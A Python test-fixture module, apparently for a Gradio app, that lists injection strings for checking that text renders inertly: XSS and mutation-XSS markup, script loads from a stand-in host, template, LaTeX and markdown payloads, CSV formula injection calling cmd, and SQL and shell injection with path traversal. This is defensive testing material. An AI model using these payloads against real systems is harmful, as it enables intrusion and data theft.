"""Texts that would like to be more than text.

Each, if it ran or were rendered, would leave a trace that tests look for: it sets window.pwned, opens a dialog, changes
the title, or asks for /pwned here or for anything of another host.

ATTACKS      what the app takes and must show as it is, character by character
UNSTORABLE   what no field takes: each is refused in words
"""

from __future__ import annotations

_FAR = "http://pwned.invalid"  # a name that no resolver knows: a request there is seen by the browser, and goes nowhere

_MARKUP = {
    "script": "<script>window.pwned=1</script>",
    "script that closes what is around it": "</script></style></textarea></title><script>window.pwned=1</script>",
    "script of another host": f'<script src="{_FAR}/x.js"></script>',
    "module": "<script type=module>import '/pwned'</script>",
    "image that fails": '<img src="/pwned?img" onerror="window.pwned=1">',
    "image of another host": f'"><img src="{_FAR}/track.png" srcset="{_FAR}/2x.png 2x">',
    "svg onload": "<svg onload=window.pwned=1><circle r=9></svg>",
    "svg animate": '<svg><a><animate attributeName=href values="javascript:window.pwned=1"/><text>go</text></a></svg>',
    "svg script": '<svg><script href="data:text/javascript,window.pwned=1" /></svg>',
    "svg use": f'<svg><use href="{_FAR}/s.svg#x"/><image href="/pwned?svg"/></svg>',
    "frame with a document": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "frame with a script": '<iframe src="javascript:parent.pwned=1"></iframe>',
    "details": "<details open ontoggle=window.pwned=1><summary>more</summary></details>",
    "focus": "<input autofocus onfocus=window.pwned=1><button popovertarget=x onbeforetoggle=window.pwned=1>",
    "video": '<video autoplay poster="/pwned?poster"><source src="/pwned?video" onerror=window.pwned=1></video>',
    "object": '<object data="/pwned?object"></object><embed src="/pwned?embed">',
    "style": f"<style>@import '{_FAR}/x.css';body{{display:none}}*{{background:url(/pwned?css)}}</style>",
    "style of one thing": '<div style="position:fixed;inset:0;background:url(/pwned?fixed);z-index:9999">Sign in</div>',
    "style sheet": f'<link rel=stylesheet href="{_FAR}/x.css"><link rel=preload as=image href="/pwned?preload">',
    "refresh": '<meta http-equiv="refresh" content="0;url=/pwned?refresh">',
    "base": f'<base href="{_FAR}/">',
    "form": '<form action="/pwned?form"><input name=password><button autofocus>Sign in again</button></form>',
    "old markup": '<body onload=window.pwned=1 background="/pwned?body"><marquee onstart=window.pwned=1>x</marquee>',
    "custom element": "<x-y onpointerover=window.pwned=1 style='font-size:99px' tabindex=0 autofocus>x</x-y>",
    "mutation by noscript": '<noscript><p title="</noscript><img src=/pwned?noscript onerror=window.pwned=1>">',
    "mutation by math": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--><img src=/pwned?math onerror=window.pwned=1>">',
    "mutation by title": '<svg></p><title><a id="</title><img src=/pwned?title onerror=window.pwned=1>"></svg>',
    "mutation by select": "<select><template><style><a title='</style><img src=/pwned?select onerror=window.pwned=1>'>",
    "shadow root": "<div><template shadowrootmode=open><img src=/pwned?shadow onerror=window.pwned=1></template></div>",
    "entities": "&lt;img src=/pwned?entity onerror=window.pwned=1&gt; &#60;script&#62;window.pwned=1&#60;/script&#62;",
    "clobbered names": '<form id=document><input name=cookie></form><a id=props href="/pwned"></a><img name=trigger>',
    "title": "<title>pwned</title><h1>pwned</h1>",
}
_TEMPLATES = {  # Gradio compiles these in a gr.HTML's template
    "template string": "${window.pwned=1} ${(() => { window.pwned = 1 })()}",
    "template that breaks": "` + (window.pwned=1) + ` ${ \\u \\x `",
    "braces": "{{constructor.constructor('window.pwned=1')()}} {{{value}}} {{#each value}}{{this}}{{/each}}",
    "server templates": "{% for x in (1).__class__.__mro__ %}{{ x }}{% endfor %} <%= 7*7 %> #{7*7} @{7*7} *{7*7}",
    "prototype": '{"__proto__": {"pwned": 1}, "constructor": {"prototype": {"pwned": 1}}}',
    "format fields": "{0.__class__.__init__.__globals__} %s %n %(name)s {name!r:>9999}",
}
_MARKDOWN = {
    "markdown image": f"![a]({_FAR}/a.png) ![b](/pwned?image) ![c][c]\n\n[c]: {_FAR}/c.png",
    "markdown links": "[a](javascript:window.pwned=1) [b](data:text/html,<script>window.pwned=1</script>)",
    "reference links": "[a][1] [b][2]\n\n[1]: javascript:window.pwned=1\n[2]: vbscript:x 'x\"onclick=window.pwned=1'",
    "autolinks": f"<javascript:window.pwned=1> <{_FAR}/auto> {_FAR}/bare www.pwned.invalid a@pwned.invalid",
    "html block": "<div markdown=1>\n\n# pwned\n\n<img src=/pwned?block onerror=window.pwned=1>\n\n</div>",
    "fences": '```mermaid\ngraph TD; A-->B; click A "javascript:window.pwned=1"\n```\n'
    "~~~html\n<script>window.pwned=1</script>\n~~~",
    "headings and tables": "# pwned\n\n| a | b |\n|---|---|\n| <b onclick=x>c</b> | `d` |\n\n1. one\n> quote\n---",
}
_LATEX = {
    "latex links": "$\\href{javascript:window.pwned=1}{x}$ $$\\url{javascript:window.pwned=1}$$",
    "latex files": f"\\input{{/etc/passwd}} $\\includegraphics{{{_FAR}/x.png}}$ \\write18{{id}}",
    "latex loop": "$$\\def\\a{\\a\\a}\\a$$ \\(\\newcommand{\\b}{\\b}\\b\\) $9^{9^{9^{9^{9^{9}}}}}$",
    "latex markup": "$\\htmlData{x=y}{z} \\class{pwned}{q} \\style{background:url(/pwned?latex)}{w} \\unicode{x202e}$",
}
_CHARACTERS = {
    "bidirectional overrides": "account \u202eexe.gpj\u202c \u2066\u2067rtl\u2069 \u200frlm \u200elrm \u061calm",
    "arabic and hebrew": "مرحبا <b onclick=window.pwned=1>שלום</b> 123",
    "zero width": "<\u200bscript>win\u200cdow.pwned=1</\u200dscript>\ufeff\u2060\u00ad",
    "control characters": "a\u0001b\u0007c\u0008d\u001b[31mred\u001b[0m\u007fe\u0085f\u2028g\u2029h",
    "what looks like nothing": "\u2400 \\0 \\x00 %00 &#0; \ufffd \u2800 \u3164 \u115f",
    "lone combining marks": "\u0301\u0308 Z̸̢̛̪̗͓͍̭̤͙̺̥̲͓a\u20dd\u0488" + "\u0336" * 60,
    "a very long word": "w" * 5_000,
    "emoji and plane 15": "👩‍👩‍👧‍👦🏳️‍🌈🇪🇺\U000f0000\U0010fffd",
    "white space": " \u00a0\u3000\t\ttabs   and\r\nlines\rof\nevery kind \u2003",
}
_FORMULAS = {
    "formulas": f'=HYPERLINK("{_FAR}/"&A1,"go")',
    "formula by minus": "-2+3+cmd|' /C calc'!A0",
    "formula by at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula by plus": '+IMPORTXML("http://pwned.invalid/","//a")',
    "sql and shell": "'; DROP TABLE rankings; -- $(touch /tmp/pwned) `id` || 1=1",
    "paths and headers": "../../../../etc/passwd\r\nSet-Cookie: pwned=1\r\n\r\n<script>window.pwned=1</script>",
}
ATTACKS: dict[str, str] = _MARKUP | _TEMPLATES | _MARKDOWN | _LATEX | _CHARACTERS | _FORMULAS
UNSTORABLE: dict[str, str] = {"NUL": "a\0b", "half a character": "a\ud800b", "the other half": "\udc00"}


def chunks(count: int) -> list[str]:
    """All attacks in `count` texts, each of every kind; a line of words parts them."""
    texts = list(ATTACKS.values())
    return ["\n\nand now:\n\n".join(texts[start::count]) for start in range(count)]


def conversation() -> list[dict[str, str]]:
    """A conversation with each attack in a turn of its own, which ends as it must with the user's."""
    texts = list(ATTACKS.values())
    turns = [{"role": "system", "content": texts[0]}]
    rest = texts[1:] if len(texts) % 2 == 0 else [*texts[1:], texts[0]]
    return turns + [{"role": ("user", "assistant")[place % 2], "content": text} for place, text in enumerate(rest)]
